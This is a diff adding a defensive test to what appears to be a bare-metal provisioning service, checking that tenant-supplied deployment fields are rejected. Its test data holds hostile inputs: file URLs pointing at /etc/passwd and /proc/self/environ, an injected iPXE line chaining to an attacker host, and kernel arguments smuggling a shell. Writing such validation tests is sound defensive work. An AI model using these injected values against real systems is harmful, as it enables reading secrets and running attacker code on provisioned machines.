@@ -125,3 +125,34 @@ def test_a_protected_node_refuses_what_would_destroy_it(api, verb):
     uuid, body = put(api, State.ACTIVE, verb)
     api.set(uuid, protected=True)
     assert 403 == api("PUT", f"/v1/nodes/{uuid}/states/provision", body).status_code
+
+
+@pytest.mark.parametrize(
+    ("deploy", "info", "says"),
+    [
+        ("direct", {"image_source": "FILE:///etc/passwd", "image_checksum": "a" * 64},
+         "instance_info/image_source: files may only lie in"),
+        ("direct", {"image_source": " file:///etc/passwd", "image_checksum": "a" * 64},
+         "instance_info/image_source"),
+        ("ramdisk", {"kernel": "http://h/k", "ramdisk": "file:///proc/self/environ"},
+         "instance_info/ramdisk: files may only lie in"),
+        ("ramdisk", {"boot_iso": "http://h/i\nchain http://attacker/"}, "instance_info/boot_iso"),
+        ("ramdisk", {"kernel": "http://h/k", "ramdisk": "http://h/r",
+                     "ramdisk_kernel_arguments": "quiet && shell ||"},
+         "instance_info/ramdisk_kernel_arguments: a boot loader would run"),
+        (None, {"deploy_interface": "anaconda", "ks_template": "file:///proc/self/environ"},
+         "'anaconda'"),
+    ],
+)  # fmt: skip
+def test_a_deployment_whose_node_names_files_or_commands_is_refused_before_it_begins(
+    api, deploy, info, says
+):
+    """`instance_info` may be set by tenants."""
+    node = api.node(
+        provision_state="available", deploy_interface=deploy, boot_interface="ipxe",
+        instance_info=info,
+    )  # fmt: skip
+    answer = api("PUT", f"/v1/nodes/{node['uuid']}/states/provision", {"target": "active"})
+    assert 400 == answer.status_code
+    assert says in fault(answer)["faultstring"]
+    assert "available" == api("GET", f"/v1/nodes/{node['uuid']}").json["provision_state"]
